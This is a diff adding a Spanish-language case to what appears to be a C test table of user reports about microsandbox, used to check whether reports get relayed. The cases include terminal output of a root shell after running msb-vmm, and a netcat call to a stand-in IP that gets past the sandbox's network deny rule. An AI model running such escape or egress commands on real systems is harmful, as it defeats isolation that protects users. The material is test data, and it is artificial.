@@ -15,6 +15,14 @@ static const struct {
 	  "sure what exactly it shows. I don't run microsandbox myself, so I haven't tried anything. If you have "
 	  "questions I can pass them on.\n\n[k@bench ~]$ /usr/libexec/microsandbox/msb-vmm --config /tmp/k/vm.json\n"
 	  "written\n[k@bench ~]$ sudo -n id\nuid=0(root) gid=0(root) groups=0(root)\n", 0, 1, 1 },
+	/* (3517) the same in a language no list knows: the sentences
+	 * about the system tell why the relayer forwards it */
+	{ "Soy de soporte t\u00e9cnico de Tallerbox, una plataforma que usa microsandbox para correr el c\u00f3digo de "
+	  "los alumnos. Un cliente nos mand\u00f3 el mensaje de abajo anoche, s\u00f3lo la salida de la terminal. "
+	  "Nuestros desarrolladores est\u00e1n de licencia y yo no termino de entender qu\u00e9 muestra, pero como "
+	  "aparece el filtro de red de microsandbox preferimos reenvi\u00e1rselo tal cual.\n\n"
+	  "$ msb run --name q1 --net-default deny alpine -- sh\n/ # printf 'x' | nc -u -w2 203.0.113.40 9999; "
+	  "echo rc=$?\nrc=0\n", 0, 1, -1 },
 	/* (3493) `npm view` of another package or of a field of the
 	 * registry's record checks the registry: a supply-chain claim's
 	 * reproduction; of microsandbox's version it only shows the
